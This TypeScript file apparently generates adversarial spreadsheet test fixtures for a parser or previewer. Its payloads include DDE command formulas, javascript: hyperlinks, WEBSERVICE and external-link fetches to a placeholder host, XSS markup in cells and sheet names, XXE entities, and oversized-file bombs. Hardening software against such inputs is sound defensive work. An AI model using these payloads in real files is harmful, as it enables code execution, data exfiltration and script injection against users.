import type { AdversarialFile, Payload } from './adversarial-files.ts';
import type { PackageRelation, PackageParts, UnnamedFile } from './office-package.ts';
import {
  HEAD,
  S,
  NAMES,
  attribute,
  escaped,
  relations,
  pack,
  numbered,
  external,
  OVERSIZED_WHITESPACE,
} from './office-package.ts';

/** A workbook; `cells` follow a cell with readable text. */
const book = (
  cells: string,
  {
    sheet = 'Sums',
    rels = [],
    parts = {},
    doctype = '',
    rows = '',
    dimension = '',
  }: {
    readonly sheet?: string;
    readonly rels?: readonly PackageRelation[];
    readonly parts?: PackageParts;
    readonly doctype?: string;
    readonly rows?: string;
    readonly dimension?: string;
  } = {},
): Buffer =>
  pack('xl/workbook.xml', {
    'xl/workbook.xml': `${HEAD}<workbook xmlns="${S}" ${NAMES}><sheets><sheet name="${attribute(sheet)}" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relations([['rId1', 'worksheet', 'worksheets/sheet1.xml'], ...rels]),
    'xl/worksheets/sheet1.xml': `${HEAD}${doctype}<worksheet xmlns="${S}" ${NAMES}>${dimension}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Readable cell</t></is></c>${cells}</row>${rows}</sheetData></worksheet>`,
    ...parts,
  });

const text = (at: string, value: string): string => `<c r="${at}" t="inlineStr"><is><t>${escaped(value)}</t></is></c>`;
const formula = (at: string, code: string, value: string): string =>
  `<c r="${at}" t="str"><f>${escaped(code)}</f><v>${escaped(value)}</v></c>`;

export const adversarialSheets = (poison: Payload): readonly AdversarialFile[] => {
  const { js, far } = poison;
  const markup = `<img src=x onerror=${js}><script>${js}</script>`;
  const shows = { words: 'Readable cell' };
  const files: readonly UnnamedFile[] = [
    {
      what: 'formulas that link to scripts and fetch addresses',
      bytes: book(
        `${formula('B1', `HYPERLINK("javascript:${js}","x")`, 'x')}${formula('C1', `WEBSERVICE("${far}/ws")`, 'y')}${formula('D1', `IMAGE("${far}/i.png")`, 'z')}`,
      ),
      shows,
    },
    {
      what: 'formulas that start programs',
      bytes: book(
        ["=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", '@SUM(1+1)*cmd|x']
          .map((code, at) => formula(`${'BCDE'[at] ?? 'B'}1`, code.slice(1), code))
          .join(''),
      ),
      shows,
    },
    {
      what: 'markup in cells of every kind',
      bytes: book(
        `${text('B1', markup)}<c r="C1" t="s"><v>0</v></c><c r="D1" t="str"><v>${escaped(markup)}</v></c><c r="E1" t="e"><v>${escaped(markup)}</v></c><c r="F1" t="d"><v>${escaped(markup)}</v></c>`,
        {
          rels: [['rId2', 'sharedStrings', 'sharedStrings.xml']],
          parts: {
            'xl/sharedStrings.xml': `${HEAD}<sst xmlns="${S}" count="1" uniqueCount="1"><si><r><t>${escaped(markup)}</t></r></si></sst>`,
          },
        },
      ),
      shows,
    },
    {
      what: 'links to other workbooks and data of other servers',
      bytes: book(formula('B1', `'[1]Far'!A1`, 'far'), {
        rels: [
          ['rId2', 'externalLink', 'externalLinks/externalLink1.xml'],
          ['rId3', 'connections', 'connections.xml'],
        ],
        parts: {
          'xl/externalLinks/externalLink1.xml': `${HEAD}<externalLink xmlns="${S}" ${NAMES}><externalBook r:id="e1"/></externalLink>`,
          'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
            ['e1', 'externalLinkPath', `${far}/b.xlsx`, true],
          ]),
          'xl/connections.xml': `${HEAD}<connections xmlns="${S}"><connection id="1" name="x" type="4" refreshOnLoad="1"><webPr url="${far}/query"/></connection></connections>`,
        },
      }),
      shows,
    },
    { what: 'a sheet whose name is markup', bytes: book('', { sheet: `<img src=x onerror=${js}>` }), shows },
    { what: 'a sheet named like an object', bytes: book('', { sheet: '__proto__' }), shows: 'either' },
    {
      what: 'entities that read files and addresses',
      bytes: book('<c r="B1" t="inlineStr"><is><t>&file;&net;</t></is></c>', { doctype: external(far) }),
      shows: 'either',
    },
    {
      what: 'a sheet of 80 MB in 80 kB',
      bytes: book('', { rows: OVERSIZED_WHITESPACE.toString('latin1') }),
      shows: 'refusal',
    },
    {
      what: 'a range of seventeen billion cells',
      bytes: book('', {
        dimension: '<dimension ref="A1:XFD1048576"/>',
        rows: '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
      }),
      shows,
    },
    {
      what: 'one cell forty thousand times',
      bytes: book('', {
        rows: Array.from({ length: 40_000 }, (_, at) => `<row r="2"><c r="B2"><v>${at}</v></c></row>`).join(''),
      }),
      shows,
    },
    {
      what: 'a web page named like a workbook',
      ends: 'xls',
      bytes: `<html><body onload="${js}"><script>${js}</script><table><tr><td>Readable cell</td><td><img src="${far}/t" onerror="${js}"></td></tr></table></body></html>`,
      shows,
    },
    {
      what: 'an old exchange format with a program in a cell',
      ends: 'xls',
      bytes: `ID;PWXL;N;E\nC;Y1;X1;K"Readable cell"\nC;Y1;X2;E=EXEC("calc");K"<script>${js}</script>"\nE\n`,
      shows,
    },
    {
      what: 'a table with programs in its cells',
      ends: 'xls',
      bytes: `Readable cell,=HYPERLINK("javascript:${js}"),<img src=x onerror=${js}>\n=cmd|'/c calc'!A0,1,2\n`,
      shows,
    },
    {
      what: 'a compound file of noise',
      ends: 'xls',
      bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096, 0x41)]),
      shows: 'refusal',
    },
  ];
  return numbered('sheet', 'xlsx', files);
};
